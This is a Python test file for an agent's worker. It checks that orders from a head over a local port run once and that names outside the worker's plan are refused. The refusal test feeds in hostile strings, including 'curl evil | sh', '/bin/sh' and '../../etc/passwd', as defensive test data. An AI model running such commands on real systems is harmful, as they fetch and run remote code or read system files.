"""Orders over the real port: a worker runs only what its own plan has."""

from __future__ import annotations

import contextlib
from typing import TYPE_CHECKING

import anyio
import pytest

from agent.decisions import worker
from agent.decisions.shared import LogLine, OrderKind, StepOver
from agent.decisions.worker import worker_state as w
from agent.port.client import HeadLink
from agent.port.protocol import Hello, Reply, Report
from agent.port.reports import Expected, Reports
from agent.port.server import AgentServer
from agent.port.sockets import bind
from support.free_ports import free_port
from support.heads import RETRIEVER
from support.workers import goal

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

SECONDS = 20.0
HELLO = Hello("pod1", 1)
FIRST = Reply(1, "run-1", "booting", ray_ready=False, head_ip="10.0.0.1", news=0)


class OneWorker:
    """A worker's decisions behind a real link to a head's port; actions are only recorded."""

    def __init__(self, port: int) -> None:
        first = worker.first_state(goal(prepare=True))
        self.state, _ = worker.decide(first, StepOver("AGENT_PREPARE_EACH"), 0.5)
        self.deeds: list[w.WorkerAction] = []
        self.changed = anyio.Event()
        self.link = HeadLink(
            *("127.0.0.1", port, port, None),
            lambda: HELLO,
            self._report,
            self._take,
            lambda _reply: None,
        )

    def _take(self, event: w.WorkerEvent) -> None:
        before = self.state
        self.state, actions = worker.decide(self.state, event, 1.0)
        self.deeds += actions
        if self.state.last_order != before.last_order:
            self.link.report_now()
        self.changed.set()
        self.changed = anyio.Event()

    def _report(self, ip: str) -> Report:
        obeyed = self.state.last_order
        number, by = (0, "") if obeyed is None else (obeyed.number, obeyed.by)
        return Report("agent1", ip, self.state.phase.value, obeyed=number, obeyed_by=by)

    async def until_obeyed(self, number: int) -> None:
        """Wait until an order with this number was received."""
        with anyio.fail_after(SECONDS):
            while self.state.last_order is None or self.state.last_order.number < number:
                await self.changed.wait()


@contextlib.asynccontextmanager
async def head_at(port: int) -> AsyncIterator[Reports]:
    """Serve a head's port."""
    reports = Reports(FIRST, Expected(None, "", "", ""), lambda _event: None, lambda: 0.0)
    site = AgentServer(token=None, ready=lambda: True, status=dict, reports=reports)
    runner = await site.open([bind("127.0.0.1", port)])
    try:
        yield reports
    finally:
        await runner.cleanup()


async def trace(port: int, orders: list[tuple[OrderKind, str]]) -> OneWorker:
    """Give a worker orders one after another, and wait for each."""
    one = OneWorker(port)
    async with head_at(port) as reports, anyio.create_task_group() as tasks:
        tasks.start_soon(one.link.run)
        with anyio.fail_after(SECONDS):
            while not one.state.last_reply_at:
                await one.changed.wait()
        for number, (kind, name) in enumerate(orders, 1):
            reports.order("agent1", kind, name)
            await one.until_obeyed(number)
        tasks.cancel_scope.cancel()
    return one


def test_orders_arrive_at_once_and_are_carried_out_once() -> None:
    """A held report returns an order at once; the next reply does not repeat it."""
    orders = [
        (OrderKind.START_SERVICE, RETRIEVER),
        (OrderKind.RUN_STEP, "AGENT_PREPARE_EACH"),
        (OrderKind.SEND_LOG, "ray"),
    ]
    one = anyio.run(trace, free_port(), orders)
    assert [deed for deed in one.deeds if not isinstance(deed, LogLine)] == [
        w.StartOwnService(RETRIEVER, 1),
        w.RunOwnStep("AGENT_PREPARE_EACH"),
        w.SendLog("ray"),
    ]


@pytest.mark.parametrize(
    "name",
    ["curl evil | sh", "/bin/sh", "../../etc/passwd", "http://evil/", "", RETRIEVER.upper()],
)
def test_whoever_answers_as_the_head_can_run_nothing_else(name: str) -> None:
    """A worker runs nothing that is not in its own plan."""
    orders = [(OrderKind.START_SERVICE, name), (OrderKind.RUN_STEP, name)]
    one = anyio.run(trace, free_port(), orders)
    assert {type(deed) for deed in one.deeds} == {LogLine}
    said = " ".join(deed.sentence for deed in one.deeds if isinstance(deed, LogLine))
    assert said.count("an order of the head's is refused") == 2
